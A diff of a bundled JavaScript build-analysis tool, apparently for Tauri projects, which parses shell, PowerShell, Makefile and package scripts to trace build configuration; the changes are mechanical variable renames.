+    words3.push({ pieces: [textPiece(text3 ?? UNKNOWN_WORDS)], quoted: true });
   } while (cursor.match(/[ \t]*,/y) !== void 0);
   return words3;
 }
@@ -10666,8 +10713,8 @@ function next(cursor, split3, depth) {
   }
 }
 function singleQuoted(cursor) {
-  const text2 = cursor.takeThrough("'");
-  return cursor.match(/'/y) === void 0 ? text2 : `${text2}'${singleQuoted(cursor)}`;
+  const text3 = cursor.takeThrough("'");
+  return cursor.match(/'/y) === void 0 ? text3 : `${text3}'${singleQuoted(cursor)}`;
 }
 function doubleQuoted(cursor, split3, depth) {
   const pieces = [];
@@ -10721,9 +10768,9 @@ var ESCAPES2 = {
 };
 
 // src/tauri/builds/shell/powershell.ts
-function splitPowershell(text2, depth = 0) {
+function splitPowershell(text3, depth = 0) {
   if (depth > DEEPEST_COMMAND) return TOO_DEEP;
-  return new PowershellScript(text2.slice(0, LONGEST_SCRIPT), depth).split();
+  return new PowershellScript(text3.slice(0, LONGEST_SCRIPT), depth).split();
 }
 var PowershellScript = class {
   #cursor;
@@ -10734,8 +10781,8 @@ var PowershellScript = class {
   #targets = [];
   #offset = null;
   #fedBy = null;
-  constructor(text2, depth) {
-    this.#cursor = new Cursor(text2);
+  constructor(text3, depth) {
+    this.#cursor = new Cursor(text3);
     this.#depth = depth;
   }
   split() {
@@ -10823,19 +10870,19 @@ function scriptOf(file2, dialect) {
   const placeAt = placesIn(file2);
   return { text: file2.text, dialect, path: file2.path, lineAt: (offset) => placeAt(offset, offset).line };
 }
-function scriptAt(text2, dialect, { path, line, endLine }) {
-  const placeAt = placesIn({ path, id: "", text: text2 });
+function scriptAt(text3, dialect, { path, line, endLine }) {
+  const placeAt = placesIn({ path, id: "", text: text3 });
   const lineAt = (offset) => Math.min(line + placeAt(offset, offset).line - 1, endLine);
-  return { text: text2, dialect, path, lineAt };
+  return { text: text3, dialect, path, lineAt };
 }
-function splitScript({ text: text2, dialect }) {
+function splitScript({ text: text3, dialect }) {
   switch (dialect) {
     case "posix":
-      return splitPosix(text2);
+      return splitPosix(text3);
     case "powershell":
-      return splitPowershell(text2);
+      return splitPowershell(text3);
     case "batch":
-      return splitBatch(text2);
+      return splitBatch(text3);
   }
 }
 
@@ -10846,10 +10893,10 @@ function cargoEnvironment(app, files) {
   const entry = settingIn(settings2, ...TAURI_CONFIG);
   if (entry === void 0) return void 0;
   const value = entry.kind === "string" ? entry : key("value");
-  const text2 = asString(value);
+  const text3 = asString(value);
   const isPath = asBoolean(key("relative")) === true;
   const force = asBoolean(key("force")) === true;
-  return { json: isPath || text2 === void 0 ? null : text2, at: (value ?? entry).at, force };
+  return { json: isPath || text3 === void 0 ? null : text3, at: (value ?? entry).at, force };
 }
 var TAURI_CONFIG = ["env", "TAURI_CONFIG"];
 function makersOfAliases(file2, files) {
@@ -10921,13 +10968,13 @@ function extraLayers(app, files) {
 var OTHER_CONFIGS = /* @__PURE__ */ new Set(["tauri.conf.json", "tauri.conf.json5", "Tauri.toml"]);
 function configLayers(app, files, json5, extra) {
   const gaps = [];
-  const read7 = (file2) => {
+  const read9 = (file2) => {
     if (file2 === void 0) return void 0;
     const parsed7 = parseFile(file2, { json5 });
     if (!parsed7.ok) gaps.push(unparsed(file2, parsed7));
     return parsed7.ok ? parsed7.value : void 0;
   };
-  const base = read7(files.get(app.config)) ?? emptyConfig(app.config);
+  const base = read9(files.get(app.config)) ?? emptyConfig(app.config);
   const handedOver2 = extra.map((layer) => {
     const { value, gap: gap3 } = readLayer(layer);
     if (gap3 !== void 0) gaps.push(gap3);
@@ -10937,7 +10984,7 @@ function configLayers(app, files, json5, extra) {
   const of2 = /* @__PURE__ */ new Map();
   for (const platform of PLATFORMS) {
     const overlay = overlayNames(platform).map((name) => files.get(inFolder(app.root, name))).find((file2) => file2 !== void 0);
-    const patches = [read7(overlay), last].filter((patch) => patch !== void 0);
+    const patches = [read9(overlay), last].filter((patch) => patch !== void 0);
     of2.set(platform, patches.reduce(mergePatch, base));
   }
   return { of: of2, gaps };
@@ -10991,8 +11038,8 @@ function handedOver(values, ran, files) {
 function inFolder2(values, ran, folders, files) {
   const found9 = values.map((value) => ({ value, layer: layerOf(value, ran, folders, files) }));
   const layers = found9.flatMap(({ layer }) => layer ?? []);
-  const missing = found9.find(({ layer }) => layer === void 0);
-  return missing === void 0 ? { seen: true, layers } : { seen: false, value: missing.value, layers };
+  const missing2 = found9.find(({ layer }) => layer === void 0);
+  return missing2 === void 0 ? { seen: true, layers } : { seen: false, value: missing2.value, layers };
 }
 function layerOf(value, ran, folders, files) {
   if (value.startsWith("{")) return isKnown(value) ? inlineLayer(value, ran) : void 0;
@@ -11000,10 +11047,10 @@ function layerOf(value, ran, folders, files) {
   return file2 === void 0 ? void 0 : { file: file2, inline: false };
 }
 function inlineLayer(json, { path, line }) {
-  const at2 = (text2) => ({
+  const at2 = (text3) => ({
     path,
-    id: `inline ${text2}`,
-    text: "\n".repeat(line - 1) + text2
+    id: `inline ${text3}`,
+    text: "\n".repeat(line - 1) + text3
   });
   const unescaped = at2(json.replaceAll('\\"', '"'));
   const isEscaped = !parseJson(at2(json), "json").ok && parseJson(unescaped, "json").ok;
@@ -11112,7 +11159,7 @@ function isHarmlessFlag({ name, value }) {
       return /^(?:|y|yes|on|true|n|no|off|false)$/.test(value);
     case "-C link-arg":
     case "-C link-args":
-      return value.split(/\s+/).every((word2) => FOR_LINKER.some((known6) => known6.test(word2)));
+      return value.split(/\s+/).every((word2) => FOR_LINKER.some((known7) => known7.test(word2)));
     default:
       return name === "-C debug-assertions" || HARMLESS.has(name);
   }
@@ -11146,8 +11193,8 @@ function unseenCompiler(ran) {
   const [name, value] = found9;
   return [{ ran, why: "compiler", what: isKnown(value) ? `${name}=${value}` : UNKNOWN }];
 }
-function flagsIn(text2) {
-  const words3 = text2.split(/[\s\x1f]+/).filter((word2) => word2 !== "");
+function flagsIn(text3) {
+  const words3 = text3.split(/[\s\x1f]+/).filter((word2) => word2 !== "");
   const flags = [];
   for (let index = 0; index < words3.length; ) {
     const { flag, taken: taken3 } = flagAt(words3.slice(index, index + 2));
@@ -11239,8 +11286,8 @@ function tauriArguments(words3) {
     isOpen: isOpen4
   };
 }
-function eachFeature(text2) {
-  return text2.split(/[\s,]+/).filter((name) => name !== "");
+function eachFeature(text3) {
+  return text3.split(/[\s,]+/).filter((name) => name !== "");
 }
 function flagsOf2(words3, isMobile) {
   const found9 = [];
@@ -11380,10 +11427,10 @@ function settingsOf2(commands2) {
     const words3 = ran.words.flatMap((word2) => /^(?:-[eD]|--env=)?TAURI_CONFIG=(.*)$/is.exec(word2)?.[1] ?? []);
     const says = SAYS.test(ran.source);
     for (const json of [...words3, ...valuesIn(ran)].filter((value) => value !== "")) {
-      const known6 = found9.get(json);
-      const everywhere = words3.includes(json) || known6?.everywhere === true;
-      const isBetter = known6 === void 0 || says && !SAYS.test(known6.ran.source);
-      found9.set(json, { json, ran: isBetter ? ran : known6.ran, everywhere });
+      const known7 = found9.get(json);
+      const everywhere = words3.includes(json) || known7?.everywhere === true;
+      const isBetter = known7 === void 0 || says && !SAYS.test(known7.ran.source);
+      found9.set(json, { json, ran: isBetter ? ran : known7.ran, everywhere });
     }
   }
   return [...found9.values()];
@@ -11462,8 +11509,8 @@ function isShellText(word2, before2, { words: words3 }) {
 }
 
 // src/tauri/builds/script-files.ts
-function dialectOf({ path, text: text2 }) {
-  return dialectByName(path) ?? dialectByFirstLine(text2);
+function dialectOf({ path, text: text3 }) {
+  return dialectByName(path) ?? dialectByFirstLine(text3);
 }
 function dialectByName(path) {
   if (/\.(?:sh|bash|zsh|ksh|command)$|(?:^|\/)\.envrc$/i.test(path)) return "posix";
@@ -11479,9 +11526,9 @@ var SETTINGS2 = /\.config\.[cm]?[jt]s$|\.d\.[cm]?ts$/;
 function isProgram(path) {
   return isCodeByName(path) && !SETTINGS2.test(path);
 }
-function dialectByFirstLine(text2) {
-  if (!text2.startsWith("#!")) return void 0;
-  const [line = ""] = text2.split("\n", 1);
+function dialectByFirstLine(text3) {
+  if (!text3.startsWith("#!")) return void 0;
+  const [line = ""] = text3.split("\n", 1);
   if (/\bpwsh\b/.test(line)) return "powershell";
   return /(?:\/|\s)(?:ba|da|z|k)?sh\b/.test(line) ? "posix" : void 0;
 }
@@ -11503,11 +11550,11 @@ var VARIABLE2 = /TAURI_(?:CONFIG|APP_PATH|FRONTEND_PATH|["'`])|\bRUSTFLAGS|CARGO
 var PLACE = /\bCARGO_(?:BUILD_TARGET(?:_DIR)?|TARGET_DIR)\b/g;
 var ASKING = /(?:\benv(?:iron)?(?:\.|\[["'`])|\b(?:getenv|var|var_os|get|fetch)\(["'`])$/;
 var GIVEN = /^["'`]?\]?\s*(?:=(?!=)|(?:\|\||&&|\?\?)=)/;
-function setsPlace(text2) {
-  return [...text2.matchAll(PLACE)].some(({ index, 0: { length } }) => {
+function setsPlace(text3) {
+  return [...text3.matchAll(PLACE)].some(({ index, 0: { length } }) => {
     const [before2, behind2] = [
-      text2.slice(Math.max(0, index - 40), index),
-      text2.slice(index + length, index + length + 12)
+      text3.slice(Math.max(0, index - 40), index),
+      text3.slice(index + length, index + length + 12)
     ];
     return !ASKING.test(before2) || GIVEN.test(behind2);
   });
@@ -11518,15 +11565,15 @@ function mayStartTauri(code2) {
   if (code2.length > LONGEST_CODE)
     return /tauri/i.test(code2) || VARIABLE2.test(code2) || EXPORTS.test(code2) || setsPlace(code2);
   const lines2 = code2.split("\n");
-  const text2 = lines2.filter((line) => !/^\s*(?:\/\/|#(?!!)|\*|\/\*|--)/.test(line)).join("\n");
-  if (/@tauri-apps\/cli/.test(text2) || VARIABLE2.test(text2) || EXPORTS.test(text2) || setsPlace(text2))
+  const text3 = lines2.filter((line) => !/^\s*(?:\/\/|#(?!!)|\*|\/\*|--)/.test(line)).join("\n");
+  if (/@tauri-apps\/cli/.test(text3) || VARIABLE2.test(text3) || EXPORTS.test(text3) || setsPlace(text3))
     return true;
-  const isCargos = /\bcargo\b/.test(text2) && /tauri/i.test(text2) && HANDS_OVER.test(text2);
-  return isCargos || [...text2.matchAll(CLI2)].some(({ index, 0: { length } }) => builds(text2, index + length));
+  const isCargos = /\bcargo\b/.test(text3) && /tauri/i.test(text3) && HANDS_OVER.test(text3);
+  return isCargos || [...text3.matchAll(CLI2)].some(({ index, 0: { length } }) => builds(text3, index + length));
 }
 var LONGEST_CODE = 2e5;
-function builds(text2, behind2) {
-  return !BUILDS_NOTHING.test(text2.slice(behind2, behind2 + 60));
+function builds(text3, behind2) {
+  return !BUILDS_NOTHING.test(text3.slice(behind2, behind2 + 60));
 }
 
 // src/tauri/builds/unseen-programs.ts
@@ -11557,9 +11604,9 @@ function imported(program, files) {
   }
   return [...found9];
 }
-function importedBy({ path, text: text2 }) {
-  const names2 = text2.matchAll(/(?:\bfrom|\bimport|\brequire)\s*\(?\s*["'`](\.{1,2}\/[^"'`\n]{1,4096})["'`]/g);
-  return [...names2].flatMap(([, name = ""]) => {
+function importedBy({ path, text: text3 }) {
+  const names3 = text3.matchAll(/(?:\bfrom|\bimport|\brequire)\s*\(?\s*["'`](\.{1,2}\/[^"'`\n]{1,4096})["'`]/g);
+  return [...names3].flatMap(([, name = ""]) => {
     const module = joined(folderOf(path), name);
     if (module === null) return [];
     const bare = module.replace(/\.[cm]?js$/, "");
@@ -11569,7 +11616,7 @@ function importedBy({ path, text: text2 }) {
 function crateRun({ words: words3, folders }, files) {
   return cratesRun(words3, folders, files).find(
     (folder) => [...files.values()].some(
-      ({ path, text: text2 }) => path.startsWith(`${folder}/`) && path.endsWith(".rs") && mayStartTauri(text2)
+      ({ path, text: text3 }) => path.startsWith(`${folder}/`) && path.endsWith(".rs") && mayStartTauri(text3)
     )
   );
 }
@@ -11585,14 +11632,14 @@ function cratesRun(words3, folders, files) {
   });
   const manifests = behind2(/^--manifest-path$/).flatMap((word2) => pathsIn(word2, folders));
   const packages = behind2(/^(?:-p|--package|--bin)$/);
-  const named9 = [...files.keys()].filter(
+  const named10 = [...files.keys()].filter(
     (path) => path.endsWith("Cargo.toml") && packages.some((name) => isOfCrate(name, path, files))
   );
-  return [...manifests, ...named9].map(folderOf).filter((folder) => folder !== "");
+  return [...manifests, ...named10].map(folderOf).filter((folder) => folder !== "");
 }
 function isOfCrate(name, manifest2, files) {
-  const text2 = files.get(manifest2)?.text ?? "";
-  return /^[\w-]+$/.test(name) && new RegExp(`^[ \\t]*name[ \\t]*=[ \\t]*["']${name}["']`, "m").test(text2);
+  const text3 = files.get(manifest2)?.text ?? "";
+  return /^[\w-]+$/.test(name) && new RegExp(`^[ \\t]*name[ \\t]*=[ \\t]*["']${name}["']`, "m").test(text3);
 }
 
 // src/tauri/builds/package-scripts.ts
@@ -11602,8 +11649,8 @@ function packageScripts(file2) {
   const scripts = parsed7.ok ? member(parsed7.value, isDeno ? "tasks" : "scripts") : void 0;
   if (scripts?.kind !== "object") return [];
   return [...scripts.entries].flatMap(([name, { value }]) => {
-    const text2 = value.kind === "object" ? member(value, "command") : value;
-    return text2?.kind === "string" ? [{ name, text: text2, path: file2.path }] : [];
+    const text3 = value.kind === "object" ? member(value, "command") : value;
+    return text3?.kind === "string" ? [{ name, text: text3, path: file2.path }] : [];
   });
 }
 function packageSettings(file2) {
@@ -11623,7 +11670,7 @@ function otherCommands(file2) {
   );
   return sections.flatMap(
     ([name, { value }]) => stringsIn(value).flatMap(
-      (text2) => /\S\s+\S/.test(text2.value) && /tauri/i.test(text2.value) ? [{ name, text: text2, path: file2.path }] : []
+      (text3) => /\S\s+\S/.test(text3.value) && /tauri/i.test(text3.value) ? [{ name, text: text3, path: file2.path }] : []
     )
   );
 }
@@ -11635,8 +11682,8 @@ function stringsIn(value) {
     ([name, { value: inner }]) => heededName(name) === "TAURI_CONFIG" && inner.kind === "string" ? [builtWith(inner)] : stringsIn(inner)
   );
 }
-function builtWith(text2) {
-  return { ...text2, value: `TAURI_CONFIG=${quoted([text2.value])} tauri build` };
+function builtWith(text3) {
+  return { ...text3, value: `TAURI_CONFIG=${quoted([text3.value])} tauri build` };
 }
 function isPackageManifest(path) {
   return /^(?:package\.json|deno\.jsonc?)$/.test(baseName(path));
@@ -11784,8 +11831,8 @@ function configurationIn(file2) {
     ({ name: variable5, value, at: at2 }) => variable5 === "TAURI_CONFIG" ? [{ name, json: value, at: at2, isForTests }] : []
   );
 }
-function variablesIn({ path, text: text2 }) {
-  return text2.split(/\r?\n/).flatMap((line, i2) => {
+function variablesIn({ path, text: text3 }) {
+  return text3.split(/\r?\n/).flatMap((line, i2) => {
     const [, written6, value] = /^\s*(?:export\s+)?(\w+)\s*[=:]\s*(.*)$/.exec(line) ?? [];
     const name = heededName(written6 ?? "");
     if (value === void 0 || !/^(?:TAURI_|CARGO_|RUST)/.test(name)) return [];
@@ -11794,9 +11841,9 @@ function variablesIn({ path, text: text2 }) {
     ];
   });
 }
-function withoutQuotes(text2) {
-  const [, single2, double] = /^(?:'([^']*)'|"((?:[^"\\]|\\.)*)")/.exec(text2) ?? [];
-  return single2 ?? double?.replace(/\\(["\\])/g, "$1") ?? text2;
+function withoutQuotes(text3) {
+  const [, single2, double] = /^(?:'([^']*)'|"((?:[^"\\]|\\.)*)")/.exec(text3) ?? [];
+  return single2 ?? double?.replace(/\\(["\\])/g, "$1") ?? text3;
 }
 var LOADERS = /^(?:.*[\\/])?(?:env-cmd|dotenv|dotenvx|dotenv-cli|docker|podman|op|doppler|node|bun|deno|tsx)$/;
 var GIVES = /\bGITHUB_ENV\b|\bexport\s+["']?[$`]|\bset -[ao]|\benv\s+["']?\$\(/;
@@ -11817,8 +11864,8 @@ function unseenVariables(ran, files) {
   if (ran.isPutIn) return [];
   if (ran.isPrinted && !ran.source.includes("GITHUB_ENV")) return [];
   const loaded = loadedFiles(ran).flatMap((path) => files.get(path) ?? []);
-  const named9 = loaded.flatMap(variablesIn).find(({ name: name2 }) => name2 !== "TAURI_CONFIG" && DECIDES.test(name2));
-  if (named9 !== void 0) return [{ ran, why: "variables", what: named9.name, on: [named9.at.path] }];
+  const named10 = loaded.flatMap(variablesIn).find(({ name: name2 }) => name2 !== "TAURI_CONFIG" && DECIDES.test(name2));
+  if (named10 !== void 0) return [{ ran, why: "variables", what: named10.name, on: [named10.at.path] }];
   const name = setByPowershell(ran) ?? setForLater(ran, loaded.length > 0);
   return name === void 0 ? [] : [{ ran, why: "variables", what: name }];
 }
@@ -11826,9 +11873,9 @@ var DECIDES = /^(?:TAURI_(?:APP_PATH|FRONTEND_PATH)|CARGO_(?:BUILD|TARGET|PROFIL
 function setByPowershell({ source }) {
   const [, argument] = /\[(?:System\.)?Environment\]::SetEnvironmentVariable\s*\(\s*(.*)/is.exec(source) ?? [];
   const [, item] = /^(?:Set-Item|New-Item|Set-Content|si|ni|sc)\s(?:.*\s)?["']?env:[\\/]?(\S*)/i.exec(source) ?? [];
-  const text2 = argument ?? item;
-  if (text2 === void 0) return void 0;
-  const [, quoted4, bare] = /^(?:["'](\w+)["']\s*,|(\w+)["']?(?:\s|$))/.exec(text2) ?? [];
+  const text3 = argument ?? item;
+  if (text3 === void 0) return void 0;
+  const [, quoted4, bare] = /^(?:["'](\w+)["']\s*,|(\w+)["']?(?:\s|$))/.exec(text3) ?? [];
   const name = quoted4 ?? bare;
   if (name === void 0) return UNKNOWN;
   return counts(name) ? name : void 0;
@@ -11854,8 +11901,8 @@ function isNamed(word2) {
   const [name = ""] = word2.split(/=|<</, 1);
   return /^\w+$/.test(name) && isKnown(name);
 }
-function isNamedIn(text2) {
-  return /^(?:(?:echo|printf|write-output)\s+(?:-\w\s+)?)?["']?\w+(?:=|<<)/i.test(text2);
+function isNamedIn(text3) {
+  return /^(?:(?:echo|printf|write-output)\s+(?:-\w\s+)?)?["']?\w+(?:=|<<)/i.test(text3);
 }
 
 // src/tauri/builds/calls-of-maker.ts
@@ -11863,16 +11910,16 @@ function madeBy(maker2, commands2, app, files, contents) {
   const handedOn3 = handedToSteps(commands2);
   const calls = tauriCalls(commands2).filter(({ ran }) => mayBuild(app, ran.folders, contents)).map((call2) => ({ ...call2, ran: withVariables(call2.ran, handedOn3) }));
   const settings2 = settingsOf2(commands2);
-  const isFor2 = (setting10, ran) => setting10.everywhere || valuesIn(ran).includes(setting10.json);
+  const isFor2 = (setting12, ran) => setting12.everywhere || valuesIn(ran).includes(setting12.json);
   const results = calls.map(
     (call2) => madeByCall(
       call2,
       maker2,
-      settings2.filter((setting10) => isFor2(setting10, call2.ran)),
+      settings2.filter((setting12) => isFor2(setting12, call2.ran)),
       files
     )
   );
-  const left2 = settings2.filter((setting10) => !calls.some(({ ran }) => isFor2(setting10, ran)));
+  const left2 = settings2.filter((setting12) => !calls.some(({ ran }) => isFor2(setting12, ran)));
   const { builds: builds2, unseen } = joined3([...results, ...madeByEnvironment(maker2, left2)]);
   const others = commands2.flatMap((ran) => [
     ...unseenProgram(ran, files),
@@ -11894,7 +11941,7 @@ function mayBuild({ root }, folders, contents) {
 function madeByCall(call2, maker2, environment, files) {
   const { ran, args, isGuess } = call2;
   if (args.configs.length === 0 && environment.length > 0 && !isGuess)
-    return joined3(environment.map((setting10) => withSetting(setting10, call2, maker2)));
+    return joined3(environment.map((setting12) => withSetting(setting12, call2, maker2)));
   const ways = args.configs.length === 0 ? [{ seen: true, layers: [] }] : handedOver(args.configs, ran, files);
   const builds2 = ways.flatMap((way) => way.seen ? buildOf(way.layers, call2, maker2) : []);
   if (isGuess && !builds2.some(({ layers }) => layers.some(isTauris))) return guessed(call2, ways);
@@ -11974,14 +12021,14 @@ function withoutRepetition(builds2) {
 
 // src/tauri/builds/called-packages.ts
 function scriptsCalled({ name, folder, packageName }, folders, runnable) {
-  const named9 = runnable.scripts.get(name) ?? [];
+  const named10 = runnable.scripts.get(name) ?? [];
   const manifests = packageName === null ? [] : manifestsOf(packageName, runnable);
-  const own = named9.filter(({ path }) => manifests.includes(path));
+  const own = named10.filter(({ path }) => manifests.includes(path));
   if (own.length > 0) return own;
   const from = folder === null ? folders : (folders ?? [""]).flatMap((each) => resolved(each, folder) ?? []);
   const nearest3 = (from ?? []).flatMap((each) => nearestManifest(each, runnable) ?? []);
-  const near = named9.filter(({ path }) => nearest3.includes(path));
-  return near.length > 0 || name === "tauri" ? near : named9;
+  const near = named10.filter(({ path }) => nearest3.includes(path));
+  return near.length > 0 || name === "tauri" ? near : named10;
 }
 function foldersOfManager(words3, folders, runnable) {
   const at2 = words3.findIndex(isManager);
@@ -12006,10 +12053,10 @@ function nearestManifest(folder, { files }) {
 }
 
 // src/tauri/builds/lines.ts
-function logicalLines({ text: text2 }) {
+function logicalLines({ text: text3 }) {
   const lines2 = [];
   let [pending, start] = ["", 1];
-  for (const [i2, line] of text2.split(/\r?\n/).entries()) {
+  for (const [i2, line] of text3.split(/\r?\n/).entries()) {
     if (pending === "") start = i2 + 1;
     const goesOn = /(?:^|[^\\])(?:\\\\)*\\$/.test(line);
     pending = pending === "" ? line : `${pending}
@@ -12028,8 +12075,8 @@ function shellOfMake(variables) {
   return given2 === "" || /[$`]/.test(given2) || SHELL2.test(given2) ? [] : given2.split(/\s+/);
 }
 function settingsOfJust(lines2) {
-  const shells = lines2.flatMap(({ text: text2 }) => {
-    const [, list] = /^set\s+(?:windows-)?shell\s*:=\s*\[(.*)\]/s.exec(text2) ?? [];
+  const shells = lines2.flatMap(({ text: text3 }) => {
+    const [, list] = /^set\s+(?:windows-)?shell\s*:=\s*\[(.*)\]/s.exec(text3) ?? [];
     return list === void 0 ? [] : [textsIn(list)];
   });
   const loads = lines2.flatMap((line) => {
@@ -12041,8 +12088,8 @@ function settingsOfJust(lines2) {
 function isOdd([program = "", ...others]) {
   return !SHELL2.test(program) || others.some((word2) => !/^[-/]\S*$/.test(word2));
 }
-function textsIn(text2) {
-  return [...text2.matchAll(/'([^']*)'|"((?:[^"\\]|\\.)*)"/g)].map(
+function textsIn(text3) {
+  return [...text3.matchAll(/'([^']*)'|"((?:[^"\\]|\\.)*)"/g)].map(
     ([, single2, double]) => single2 ?? (double ?? "").replace(/\\(.)/g, "$1")
   );
 }
@@ -12064,7 +12111,7 @@ function filesTakenIn(file2, files) {
   return [...found9];
 }
 function pathsTakenIn(file2, top2 = file2) {
-  const from = (folder, names3) => names3.flatMap((name) => joined(folder, name) ?? []).filter((path) => path !== "");
+  const from = (folder, names4) => names4.flatMap((name) => joined(folder, name) ?? []).filter((path) => path !== "");
   if (isMakefile(top2.path)) return from(folderOf(top2.path), namesInLines(file2, MAKE));
   if (isJustfile(top2.path)) return from(folderOf(file2.path), namesInLines(file2, JUST));
   if (isTaskfile(top2.path))
@@ -12073,16 +12120,16 @@ function pathsTakenIn(file2, top2 = file2) {
       ...["Taskfile.yml", "Taskfile.yaml", "taskfile.yml"].map((name) => inFolder(path, name))
     ]);
   const isGitlab = /(?:^|\/)\.gitlab(?:-ci\.ya?ml$|\/)/.test(top2.path);
-  const names2 = isGitlab ? namesInYaml(file2, "include", "local") : [];
+  const names3 = isGitlab ? namesInYaml(file2, "include", "local") : [];
   return from(
     "",
-    names2.map((name) => name.replace(/^\/+/, ""))
+    names3.map((name) => name.replace(/^\/+/, ""))
   );
 }
 var MAKE = /^[ ]*(?:-|s)?include[ \t]+([^#\n]+)/;
 var JUST = /^(?:import|mod)\??[ \t]+(?:\w+[ \t]+)?['"]([^'"\n]+)['"]/;
-function namesInLines({ text: text2 }, line) {
-  return text2.split("\n").flatMap((each) => line.exec(each)?.[1]?.trim().split(/\s+/) ?? []).filter((name) => !/[$*]/.test(name));
+function namesInLines({ text: text3 }, line) {
+  return text3.split("\n").flatMap((each) => line.exec(each)?.[1]?.trim().split(/\s+/) ?? []).filter((name) => !/[$*]/.test(name));
 }
 function namesInYaml(file2, name, key) {
   const parsed7 = parseFile(file2);
@@ -12145,37 +12192,37 @@ function bodiesOf(lines2, { name }) {
       continue;
     }
     const isRecipe = isDefinition || /^[ \t]/.test(line.text);
-    const named9 = isRecipe ? void 0 : name.exec(line.text)?.[1]?.trimEnd();
-    if (named9 !== void 0) [target, header] = [named9, line.text];
-    const [, behind2] = named9 === void 0 ? [] : /^[^;#=]*;(.+)$/s.exec(line.text) ?? [];
-    const text2 = isDefinition ? `	${line.text}` : isRecipe ? line.text : behind2 === void 0 ? void 0 : `	${behind2}`;
-    if (text2 === void 0) continue;
-    found9.set(target, { header, body: [...found9.get(target)?.body ?? [], { ...line, text: text2 }] });
+    const named10 = isRecipe ? void 0 : name.exec(line.text)?.[1]?.trimEnd();
+    if (named10 !== void 0) [target, header] = [named10, line.text];
+    const [, behind2] = named10 === void 0 ? [] : /^[^;#=]*;(.+)$/s.exec(line.text) ?? [];
+    const text3 = isDefinition ? `	${line.text}` : isRecipe ? line.text : behind2 === void 0 ? void 0 : `	${behind2}`;
+    if (text3 === void 0) continue;
+    found9.set(target, { header, body: [...found9.get(target)?.body ?? [], { ...line, text: text3 }] });
   }
   return found9;
 }
 function parametersOf(header, args) {
-  const names2 = [
+  const names3 = [
     ...header.slice(0, Math.max(header.lastIndexOf(":"), 0)).matchAll(/[ \t]([*+$]*)([A-Za-z_][\w-]*)(?:=(?:'([^']*)'|"([^"]*)"))?/g)
   ];
-  return names2.map(([, kind = "", name = "", single2, double], i2) => {
+  return names3.map(([, kind = "", name = "", single2, double], i2) => {
     const own = /[*+]/.test(kind) ? args.slice(i2).join(" ") : args[i2];
     return [name, own === void 0 || own === "" ? single2 ?? double ?? "" : own];
   });
 }
 function maker({ path }, top2, target, body, variables, recipes, shell) {
-  const written6 = [...variables].filter(([, text2]) => !/[$`]|\{\{/.test(text2));
+  const written6 = [...variables].filter(([, text3]) => !/[$`]|\{\{/.test(text3));
   const computed3 = [...variables.keys()].filter((name) => name === "TAURI_CONFIG");
   const environment = new Map([
     ...computed3.map((name) => [name, [[UNKNOWN]]]),
-    ...written6.map(([name, text2]) => [name, [[text2]]])
+    ...written6.map(([name, text3]) => [name, [[text3]]])
   ]);
   const folders = /\.(?:mk|just)$|\bdebian\/rules$/.test(path) ? withAncestors(folderOf(path)) : [.../* @__PURE__ */ new Set([folderOf(top2.path), folderOf(path)])];
   const start = { folders, variables: environment, args: [[]] };
-  const parts = body.map(({ text: text2, line: line2 }) => {
-    const isVariable = !/^[ \t]/.test(text2);
-    const recipe = text2.replace(/^[ \t]+[@+-]*/, "");
-    const command = isVariable ? asAssignment(text2, variables, recipes) : inShell(shell, withoutCalls(filledIn(recipe, variables, recipes.reference), variables));
+  const parts = body.map(({ text: text3, line: line2 }) => {
+    const isVariable = !/^[ \t]/.test(text3);
+    const recipe = text3.replace(/^[ \t]+[@+-]*/, "");
+    const command = isVariable ? asAssignment(text3, variables, recipes) : inShell(shell, withoutCalls(filledIn(recipe, variables, recipes.reference), variables));
     return { script: scriptAt(command, "posix", { path, line: line2, endLine: line2 }), start };
   });
   const line = body.at(-1)?.line ?? 1;
@@ -12188,29 +12235,29 @@ function maker({ path }, top2, target, body, variables, recipes, shell) {
     isForTests: isNamedForTests(target)
   };
 }
-function asAssignment(text2, variables, { variable: variable5, reference }) {
-  const [, name = "", value = ""] = variable5.exec(text2) ?? [];
+function asAssignment(text3, variables, { variable: variable5, reference }) {
+  const [, name = "", value = ""] = variable5.exec(text3) ?? [];
   const computed3 = value.trim().replace(
     reference,
     (whole2, given2) => variables.has(given2.trim()) ? filledIn(whole2, variables, reference) : whole2
   ).replace(/\$\(shell\s+/g, "$(").replace(/\$\(file\s*<\s*/g, "$(cat ");
   return computed3.includes('"') ? `${name}=${computed3}` : `${name}="${computed3}"`;
 }
-function isComputed({ text: text2 }, { variable: variable5 }) {
-  return !/^[ \t]/.test(text2) && /[$`]|\{\{/.test(variable5.exec(text2)?.[2] ?? "");
+function isComputed({ text: text3 }, { variable: variable5 }) {
+  return !/^[ \t]/.test(text3) && /[$`]|\{\{/.test(variable5.exec(text3)?.[2] ?? "");
 }
 function variablesOf(lines2, { variable: variable5 }) {
-  const found9 = lines2.flatMap(({ text: text2 }) => {
-    const [, name, value] = (/^[ \t]/.test(text2) ? null : variable5.exec(text2)) ?? [];
+  const found9 = lines2.flatMap(({ text: text3 }) => {
+    const [, name, value] = (/^[ \t]/.test(text3) ? null : variable5.exec(text3)) ?? [];
     return name === void 0 || value === void 0 ? [] : [[name, unquoted(value.trim())]];
   });
   return new Map(found9);
 }
-function unquoted(text2) {
-  return /^(['"]).*\1$/s.test(text2) ? text2.slice(1, -1) : text2;
+function unquoted(text3) {
+  return /^(['"]).*\1$/s.test(text3) ? text3.slice(1, -1) : text3;
 }
-function filledIn(text2, variables, reference) {
-  return text2.replace(reference, (whole2, given2) => {
+function filledIn(text3, variables, reference) {
+  return text3.replace(reference, (whole2, given2) => {
     if (whole2 === "$$") return "$";
     const call2 = CALL.exec(given2 ?? "");
     if (call2 !== null) return calledWith(variables.get(call2[1] ?? ""), call2[2] ?? "") ?? whole2;
@@ -12224,8 +12271,8 @@ function filledIn(text2, variables, reference) {
 }
 var CALL = /^call\s+([\w-]+)\s*(?:,(.*))?$/s;
 function calledWith(value, args) {
-  const known6 = value?.replace(/\$\{?(\d)\}?/g, "");
-  if (value === void 0 || known6 === void 0 || /[$`]/.test(known6)) return void 0;
+  const known7 = value?.replace(/\$\{?(\d)\}?/g, "");
+  if (value === void 0 || known7 === void 0 || /[$`]/.test(known7)) return void 0;
   const places2 = value.match(ARGUMENT)?.length ?? 0;
   if (value.length + places2 * args.length > LONGEST_CALL) return void 0;
   const given2 = args.split(",");
@@ -12245,8 +12292,8 @@ function withoutCalls(command, variables) {
 }
 var MOST_HELD = 2e4;
 function heldBy(variables) {
-  const known6 = held.get(variables);
-  if (known6 !== void 0) return known6;
